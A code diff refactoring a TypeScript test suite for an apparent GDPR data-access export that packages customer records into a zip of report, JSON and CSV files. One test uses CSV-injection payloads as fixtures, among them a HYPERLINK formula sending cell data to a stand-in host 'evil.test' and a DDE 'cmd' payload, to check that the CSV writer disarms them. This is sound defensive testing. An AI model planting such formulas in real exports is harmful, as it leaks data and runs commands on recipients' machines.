@@ -7,51 +7,47 @@ import { buildPackage } from './package.js';
 import { contrast, themeCss } from './pages.js';
 import { rightsTexts } from './texts/index.js';
 
+/** A record of the `crm` store, neither restricted nor shared unless `flags` says so. */
+const crmRecord = (
+  table: string,
+  key: string,
+  columns: AccessRecord['columns'],
+  flags: Partial<Pick<AccessRecord, 'restricted' | 'shared'>> = {},
+): AccessRecord => ({ store: 'crm', table, key, restricted: false, ...flags, columns });
+
+/** The package of `records` for reference R-AAAA-BBBB, built at one fixed moment with no consents. */
+const packageOf = (language: 'en' | 'nl', records: AccessRecord[]) =>
+  buildPackage({
+    charter: buildCharter(),
+    language,
+    reference: 'R-AAAA-BBBB',
+    generatedAt: new Date('2025-03-01T10:00:00Z'),
+    records,
+    consents: { current: [], events: [] },
+  });
+
 const records: AccessRecord[] = [
-  {
-    store: 'crm',
-    table: 'customers',
-    key: '1',
-    restricted: false,
-    columns: [
-      { name: 'email', category: 'contact.email', value: 'an@example.be' },
-      { name: 'name', category: 'identity.name', value: 'An "the first", Peeters' },
-      { name: 'password', category: 'account.password', value: '$argon2id$secret' },
-    ],
-  },
-  {
-    store: 'crm',
-    table: 'orders',
-    key: '7',
+  crmRecord('customers', '1', [
+    { name: 'email', category: 'contact.email', value: 'an@example.be' },
+    { name: 'name', category: 'identity.name', value: 'An "the first", Peeters' },
+    { name: 'password', category: 'account.password', value: '$argon2id$secret' },
+  ]),
+  crmRecord('orders', '7', [{ name: 'address', category: 'contact.postal-address', value: 'Kerkstraat 1\nGent' }], {
     restricted: true,
-    columns: [{ name: 'address', category: 'contact.postal-address', value: 'Kerkstraat 1\nGent' }],
-  },
+  }),
 ];
 
 describe('the access package', () => {
   it('writes its CSV files with the one guarded writer: a store value never runs as a spreadsheet formula', () => {
-    const hostile: AccessRecord[] = [
-      {
-        store: 'crm',
-        table: 'notes',
-        key: '9',
-        restricted: false,
-        columns: [
-          { name: 'link', category: 'communication.message', value: '=HYPERLINK("http://evil.test/?"&A1,"Click")' },
-          { name: 'cmd', category: 'communication.message', value: "+cmd|' /C calc'!A0" },
-          { name: 'at', category: 'communication.message', value: '@SUM(1+1)' },
-          { name: 'amount', category: 'communication.message', value: -12.5 },
-        ],
-      },
+    const hostile = [
+      crmRecord('notes', '9', [
+        { name: 'link', category: 'communication.message', value: '=HYPERLINK("http://evil.test/?"&A1,"Click")' },
+        { name: 'cmd', category: 'communication.message', value: "+cmd|' /C calc'!A0" },
+        { name: 'at', category: 'communication.message', value: '@SUM(1+1)' },
+        { name: 'amount', category: 'communication.message', value: -12.5 },
+      ]),
     ];
-    const built = buildPackage({
-      charter: buildCharter(),
-      language: 'en',
-      reference: 'R-AAAA-BBBB',
-      generatedAt: new Date('2025-03-01T10:00:00Z'),
-      records: hostile,
-      consents: { current: [], events: [] },
-    });
+    const built = packageOf('en', hostile);
     // Buffer keeps the byte-order mark (TextDecoder, behind strFromU8, drops it).
     const csv = Buffer.from(unzipSync(built.bytes)['tables/crm.notes.csv']!).toString('utf8');
     expect(csv.startsWith('\uFEFF')).toBe(true);
@@ -70,14 +66,7 @@ describe('the access package', () => {
   });
 
   it('holds a report in the requester’s language, JSON and one CSV per table, and never a secret', () => {
-    const built = buildPackage({
-      charter: buildCharter(),
-      language: 'nl',
-      reference: 'R-AAAA-BBBB',
-      generatedAt: new Date('2025-03-01T10:00:00Z'),
-      records,
-      consents: { current: [], events: [] },
-    });
+    const built = packageOf('nl', records);
     const files = unzipSync(built.bytes);
     expect(Object.keys(files).sort()).toEqual([
       'consents.json',
@@ -103,23 +92,11 @@ describe('the access package', () => {
     );
     expect(built.counts).toEqual({ 'crm.customers': 1, 'crm.orders': 1 });
     // A record shared with another person says so in the report, the CSV and the JSON.
-    const shared = buildPackage({
-      charter: buildCharter(),
-      language: 'en',
-      reference: 'R-AAAA-BBBB',
-      generatedAt: new Date('2025-03-01T10:00:00Z'),
-      records: [
-        {
-          store: 'crm',
-          table: 'messages',
-          key: '5',
-          restricted: false,
-          shared: true,
-          columns: [{ name: 'body', category: 'communication.message', value: 'hello' }],
-        },
-      ],
-      consents: { current: [], events: [] },
-    });
+    const shared = packageOf('en', [
+      crmRecord('messages', '5', [{ name: 'body', category: 'communication.message', value: 'hello' }], {
+        shared: true,
+      }),
+    ]);
     const sharedFiles = unzipSync(shared.bytes);
     expect(strFromU8(sharedFiles['report.html']!)).toContain(
       'shared with another person: their data in it is left out (Art. 15(4))',
@@ -129,14 +106,7 @@ describe('the access package', () => {
     );
     expect(strFromU8(sharedFiles['data.json']!)).toContain('"shared": true');
     // Same content, same bytes.
-    const again = buildPackage({
-      charter: buildCharter(),
-      language: 'nl',
-      reference: 'R-AAAA-BBBB',
-      generatedAt: new Date('2025-03-01T10:00:00Z'),
-      records,
-      consents: { current: [], events: [] },
-    });
+    const again = packageOf('nl', records);
     expect(again.sha256).toBe(built.sha256);
   });
 });
